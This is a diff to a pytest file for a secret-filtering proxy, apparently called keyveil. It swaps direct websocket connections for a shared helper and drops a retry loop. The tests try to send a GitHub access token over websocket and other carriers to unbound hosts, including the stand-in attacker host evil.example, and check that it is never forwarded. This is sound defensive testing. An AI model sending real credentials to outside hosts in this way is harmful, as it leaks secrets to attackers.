@@ -28,6 +28,7 @@ import pytest
 
 from tests import attack_oracle as oracle
 from tests import infra
+from tests.infra import wsclient
 from tests.attack_oracle import client, rand, received
 from tests.conftest import keyveil, keyveil_proxy, make_home
 
@@ -182,7 +183,6 @@ def test_finding_wrapped_base64_after_a_one_line_base64_paragraph_is_sealed(prox
 
 @pytest.mark.parametrize("where", ["http2", "gzip", "websocket", "unbound-host", "response", "response-streamed"])
 def test_finding_wrapped_base64_after_a_one_line_base64_paragraph_other_carriers(proxy, up, kv, where):
-    import websockets.sync.client
 
     v = kv.values["github/pat"]
     body = _two_attachments(v)
@@ -199,7 +199,7 @@ def test_finding_wrapped_base64_after_a_one_line_base64_paragraph_other_carriers
         assert not holds(gzip.decompress(got), v), "the value reached api.openai.com in a gzip body"
     elif where == "websocket":
         ctx = infra.client_ssl_context(proxy.ca_cert)
-        with websockets.sync.client.connect("wss://api.openai.com/ws", proxy=proxy.url, ssl=ctx, open_timeout=10) as ws:
+        with wsclient.connect("wss://api.openai.com/ws", proxy=proxy.url, ssl=ctx, open_timeout=10) as ws:
             ws.send(body.decode())
             ws.recv(timeout=10)
         (got,) = ws_received(up)
@@ -556,7 +556,6 @@ def test_holds_websocket_values_toward_an_unbound_or_other_secrets_host(proxy, u
     in JSON, text and binary, toward ws.test.keyveil (bound for ws/token only)
     and evil.example: never forwarded."""
     import websockets.exceptions
-    import websockets.sync.client
 
     g = kv.values["github/pat"]
     s = g.decode()
@@ -565,24 +564,12 @@ def test_holds_websocket_values_toward_an_unbound_or_other_secrets_host(proxy, u
              json.dumps({"a": json.dumps({"b": s})})]
     ctx = infra.client_ssl_context(proxy.ca_cert)
 
-    def connect(host: str):
-        # 24 handshakes in a row: on a loaded machine one now and then gets no
-        # answer in time (seen in CI); a second try keeps the test about what
-        # reaches the upstream, which it still checks after every message.
-        for attempt in (1, 2):
-            try:
-                return websockets.sync.client.connect(f"wss://{host}/ws", proxy=proxy.url, ssl=ctx, open_timeout=20)
-            except TimeoutError:
-                if attempt == 2:
-                    raise
-        raise AssertionError("unreachable")
-
     for host in ("ws.test.keyveil", "evil.example"):
         for m in forms:
             for data in (m, m.encode()):
                 up.reset()
                 try:
-                    with connect(host) as ws:
+                    with wsclient.connect(f"wss://{host}/ws", proxy=proxy.url, ssl=ctx, open_timeout=10) as ws:
                         ws.send(data)
                         try:
                             echo = ws.recv(timeout=3)
